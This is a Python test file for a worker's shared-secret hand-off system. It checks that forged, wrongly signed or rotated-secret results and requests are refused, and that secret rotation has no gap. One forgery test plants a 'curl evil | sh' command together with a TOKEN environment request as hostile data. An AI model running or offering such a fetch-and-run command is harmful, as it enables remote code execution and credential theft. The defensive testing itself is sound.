"""The secret that a worker and an outside system share: signed wrong, changed or taken out, nothing forged counts, and what
ended stays ended."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import msgspec
import pytest

from pipelines.errors import CancelAsked, ConfigError, Fenced, StepFailed
from pipelines.handoffs import Delivered, Failed, HandOffs, signed
from pipelines.hook_spec import secrets_of
from tests.pipelines.receiver import DROPPED, cli, works
from tests.pipelines.test_hooks import OTHER, SECRET, TRAIN, Desk, body, desk

__all__ = ["desk"]


def test_a_result_with_a_wrong_signature_is_not_taken_and_keeps_nobody_from_the_right_one(desk: Desk) -> None:
    seen: list[Any] = []

    def forged() -> None:
        known = HandOffs(desk.store, lambda: secrets_of(OTHER, "here"))
        (name,) = (log.split("/")[2] for log in desk.store.logs("handoffs"))
        said = Delivered(attempt=1, at_ms=1, actor="mallory", listing="ab" * 32)
        assert known.enter(known.read("fraud", name), signed(said, name, secrets_of(OTHER, "here"))) is not None
        seen.extend(desk.listed("--secret-file", desk.secret))

    desk.acts = [forged, lambda: None, lambda: None, desk.works]
    assert body(desk, desk.train()) == b"2"
    assert (seen[0]["state"], seen[0]["refused"]) == ("accepted", 1)
    assert desk.results() == 1


def test_who_brings_a_result_with_another_secret_is_told_and_nothing_is_entered(desk: Desk) -> None:
    wrong = desk.directory / "wrong.secret"
    wrong.write_text(OTHER)
    done: list[Any] = []

    def other_secret() -> None:
        heard = desk.outside.of("step.requested")[-1]
        done.append(works(heard, desk.store.directory, desk.directory / "outside", wrong))
        (desk.directory / "empty/out/model").mkdir(parents=True)
        where = ("--directory", desk.directory / "empty", "--secret-file", desk.secret, "--store", desk.store.directory)
        done.append(cli("deliver", heard.id, *where))
        done.append(desk.listed("--secret-file", desk.secret)[0])

    desk.acts = [other_secret, desk.works]
    assert body(desk, desk.train()) == b"2"
    refused, empty, listed = done
    assert refused.returncode == empty.returncode == 2
    assert f"file '{wrong}' is none that hand-off" in refused.stderr
    assert "While one is changed that file has both, a line each" in refused.stderr
    assert "has no file: nothing came of the step" in empty.stderr
    assert (listed["state"], listed["refused"]) == ("accepted", 0)


@pytest.mark.parametrize("when", ["before it is told", "while it is at work"])
def test_a_request_that_another_entered_under_its_name_is_withdrawn_and_never_told(desk: Desk, when: str) -> None:
    """Whoever can write to the store, and knows no secret."""

    def forged() -> None:
        known = HandOffs(desk.store, lambda: secrets_of(OTHER, "here"))
        (name,) = (log.split("/")[2] for log in desk.store.logs("handoffs"))
        found = known.read("fraud", name)
        assert found.asked is not None
        request = msgspec.structs.replace(found.asked, command=("sh", "-c", "curl evil | sh"), environment=("TOKEN",))
        assert known.enter(found, signed(request, name, secrets_of(OTHER, "here"))) is not None

    if when == "before it is told":
        desk.outside.answers = [DROPPED]
        with pytest.raises(KeyboardInterrupt):
            desk.train(lambda: (_ for _ in ()).throw(KeyboardInterrupt) if desk.store.logs("handoffs") else None)
        forged()
    else:
        desk.acts = [forged]
        with pytest.raises(StepFailed, match="it asks for another command and environment than the run does") as caught:
            desk.train()
        assert caught.value.again
    desk.acts = [lambda: None, desk.works]
    assert body(desk, desk.train()) == b"2"
    assert {tuple(each.data["command"]) for each in desk.outside.of("step.requested")} == {TRAIN}
    assert [listed["state"] for listed in desk.listed("--secret-file", desk.secret)] == ["delivered"]


def test_a_signature_of_one_attempt_is_none_of_another(desk: Desk) -> None:
    secrets = secrets_of(SECRET, "here")
    record = signed(Failed(attempt=1, at_ms=1000, actor="a", why="w", again=True), "n", secrets)
    for changed, name in (
        (msgspec.structs.replace(record, attempt=2), "n"),
        (msgspec.structs.replace(record, why="v"), "n"),
        (msgspec.structs.replace(record, at_ms=2000), "n"),
        (record, "m"),
    ):
        assert not HandOffs(desk.store, lambda: secrets)._believed(name, changed)
    assert HandOffs(desk.store, lambda: secrets)._believed("n", record)


def test_a_secret_is_changed_without_a_moment_in_which_nobody_agrees(desk: Desk) -> None:
    desk.outside.answers = [503]
    old = desk.directory / "old.secret"
    old.write_text(SECRET)

    def changes() -> None:
        desk.secret.write_text(f"# the new one, and the old one until everybody has the new one\n{OTHER}\n{SECRET}\n")

    desk.outside.on_hear = lambda _: changes()
    desk.acts = [lambda: len(desk.outside.heard) == 2 and desk.works(secret=old)] * 100
    assert body(desk, desk.train()) == b"2"
    before, after = desk.outside.heard
    assert (before.signed_by(SECRET), before.signed_by(OTHER)) == (True, False)
    assert (after.signed_by(SECRET), after.signed_by(OTHER)) == (True, True)


def test_what_was_begun_before_the_secret_was_changed_may_be_brought_back_with_the_new_one_alone(desk: Desk) -> None:
    new = desk.directory / "new.secret"
    new.write_text(OTHER)
    said: list[Any] = []

    def tries() -> None:
        heard = desk.outside.of("step.requested")[-1]
        said.append(works(heard, desk.store.directory, desk.directory / "outside", new))

    def changes() -> None:
        desk.secret.write_text(f"{OTHER}\n{SECRET}\n")
        said.append(desk.listed("--secret-file", desk.secret)[0])

    desk.acts = [lambda: None, lambda: None, tries, changes, *[lambda: None] * 30, tries]
    assert body(desk, desk.train()) == b"2"
    before, listed, after = said
    assert before.returncode == 2
    assert "signs what is under way with both within half a minute: try again then" in before.stderr
    assert (after.returncode, listed["state"]) == (0, "accepted")
    assert len(desk.outside.heard) == 1, "it is known there: nothing is announced anew"
    (shown,) = desk.listed("--secret-file", new)
    assert (shown["state"], shown["attempt"], shown["refused"]) == ("delivered", 1, 0)


def test_a_request_that_was_signed_with_none_of_the_secrets_is_not_signed_anew(desk: Desk) -> None:
    def replaces() -> None:
        desk.secret.write_text(OTHER)

    seen: list[Any] = []
    desk.acts = [replaces, *[lambda: None] * 40, lambda: seen.append(desk.works())]
    with pytest.raises(StepFailed, match="took longer than it may"):
        desk.train()
    assert seen == [2]


def test_a_secret_that_cannot_be_used_is_said_before_anything_is_asked_for(desk: Desk) -> None:
    for text, why in (("", "holds no secret"), ("whsec_AAAA", "has 3 bytes"), ("hunter2!", "is no base64")):
        desk.secret.write_text(text)
        with pytest.raises(ConfigError, match=why) as caught:
            desk.train()
        assert "hunter2" not in str(caught.value)
    desk.secret.unlink()
    with pytest.raises(
        ConfigError, match=r"hook\.secret' .executor\.webhook\.secret_file. cannot be read: No such file"
    ):
        desk.train()
    assert (desk.outside.heard, desk.listed()) == ([], [])


def rotated(desk: Desk) -> None:
    """The new secret was put above the old one, everybody has it, and the old one was taken out."""
    desk.secret.write_text(OTHER + "\n")


def test_what_ended_by_a_secret_that_was_taken_out_stays_ended(desk: Desk) -> None:
    desk.acts = [desk.works]
    desk.train()
    desk.acts = [lambda: desk.fails("no such column")]
    with pytest.raises(StepFailed):
        desk.train(environment=("TOKEN",), params={"deep": 2})
    rotated(desk)
    shown = [(each["state"], each["refused"]) for each in desk.listed("--secret-file", desk.secret)]
    assert sorted(shown) == [("delivered", 0), ("failed", 0)]
    desk.executor().clear(desk.policy(), lambda: None)
    assert desk.outside.of("step.withdrawn") == []
    assert sorted(each["state"] for each in desk.listed()) == ["delivered", "failed"]


def test_a_step_that_failed_by_a_secret_that_was_taken_out_is_asked_for_anew(desk: Desk) -> None:
    desk.acts = [lambda: desk.fails("a node went away", "--again")]
    with pytest.raises(StepFailed):
        desk.train()
    rotated(desk)
    desk.now += 30 * 86_400  # its time is long over
    desk.acts = [desk.works]
    assert body(desk, desk.train()) == b"2"
    assert [each.data["attempt"] for each in desk.outside.of("step.requested")] == [1, 2]


def test_a_failure_that_nobody_believed_is_not_believed_for_its_words(desk: Desk) -> None:
    """Whoever may write where hand-offs are says again, without a secret, what was said of another attempt."""
    desk.acts = [lambda: desk.fails("a node went away", "--again")]
    with pytest.raises(StepFailed):
        desk.train()
    rotated(desk)
    known = HandOffs(desk.store, lambda: secrets_of(OTHER, "here"))

    def forges() -> None:
        (name,) = (log.split("/")[2] for log in desk.store.logs("handoffs"))
        found = known.read("fraud", name)
        said = Failed(attempt=2, at_ms=1, actor="a", why="a node went away", again=True)
        assert known.enter(found, signed(said, name, secrets_of(SECRET, "here"))) is not None

    desk.acts = [lambda: None, forges, lambda: None, desk.works]
    assert body(desk, desk.train()) == b"2"
    assert desk.listed("--secret-file", desk.secret)[0]["refused"] == 1


def test_a_run_is_held_while_its_hand_offs_are_looked_through(desk: Desk) -> None:
    for command in (TRAIN, (*TRAIN, "again")):
        with pytest.raises(KeyboardInterrupt):
            desk.train(lambda: (_ for _ in ()).throw(KeyboardInterrupt), command=command)
    kept: list[int] = []
    desk.outside.on_hear = lambda _: kept.append(len(held))
    held: list[None] = []

    def alive() -> None:
        held.append(None)
        raise CancelAsked("r")  # what has to be finished goes on

    desk.executor().clear(desk.policy(), alive)
    assert [each["state"] for each in desk.listed()] == ["withdrawn"] * 2
    assert kept == sorted({*kept}), "each of them is a goodbye, and alive was called between them"
    assert min(kept) > 0

    def fenced() -> None:
        raise Fenced("r", "another")

    with pytest.raises(Fenced):
        desk.executor().clear(desk.policy(), fenced)


@pytest.mark.parametrize("first", ["genuine", "forged"])
def test_two_results_by_two_secrets_are_told_apart_by_the_worker_alone(desk: Desk, first: str) -> None:
    """One outside has only the old secret, another only the new one, and neither can check what the other signed."""
    files = {name: desk.directory / f"{name}.secret" for name in ("old", "new", "mallory")}
    for (_, file), secret in zip(files.items(), (SECRET, OTHER, "whsec_" + "Q0ND" * 11), strict=True):
        file.write_text(secret)
    desk.secret.write_text(f"{OTHER}\n{SECRET}\n")
    done: list[Any] = []

    def deliver(said: str, secret: Path) -> Any:
        heard = desk.outside.of("step.requested")[-1]
        at = desk.directory / said
        (at / "out/model").mkdir(parents=True, exist_ok=True)
        (at / "out/model/rows.json").write_text(said)
        return cli("deliver", heard.id, "--directory", at, "--secret-file", secret, "--store", desk.store.directory)

    def both() -> None:
        if first == "genuine":
            done.append(deliver("1", files["old"]))
        else:
            (name,) = (log.split("/")[2] for log in desk.store.logs("handoffs"))
            known = HandOffs(desk.store, lambda: secrets_of(files["mallory"].read_text(), "here"))
            said = Delivered(attempt=1, at_ms=1, actor="mallory", listing="ab" * 32)
            forged = signed(said, name, secrets_of(files["mallory"].read_text(), "here"))
            assert known.enter(known.read("fraud", name), forged) is not None
        done.extend(deliver("2", files[name]) for name in ("new", "new"))

    desk.acts = [both]
    used = body(desk, desk.train())
    *before, second, again = done
    assert [each.returncode for each in before] == [0] * len(before)
    assert (second.returncode, again.returncode) == (75, 75), second.stderr
    assert (
        "none of the secrets here signed: it was made with another secret of the worker, or is forged" in second.stderr
    )
    assert used == (b"1" if first == "genuine" else b"2")
    after = deliver("2", files["new"])
    assert after.returncode == (3 if first == "genuine" else 0), after.stderr
    assert [each["state"] for each in desk.listed("--secret-file", files["new"])] == ["delivered"]
    if first == "genuine":
        same = deliver("1", files["old"])
        assert (same.returncode, "as was said before" in same.stderr) == (0, True)
